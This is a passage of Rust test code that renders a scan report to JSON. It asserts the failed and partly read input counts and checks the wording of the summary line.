        let mut out = Vec::new();
        render(ReportFormat::Json, &doc, &mut out).unwrap();
        let json: Value = serde_json::from_slice(&out).unwrap();
        assert_eq!((json["inputs_failed"].clone(), json["inputs_read_in_part"].clone()), (json!(1), json!(2)));
        let whole = ReportDocument { totals: ScanTotals { inputs: 5, lines: 9, rows: 9, ..Default::default() }, ..doc };
        assert!(summary_line(&whole).starts_with("9 lines read from 5 inputs, 9 records"), "{}", summary_line(&whole));
    }
}
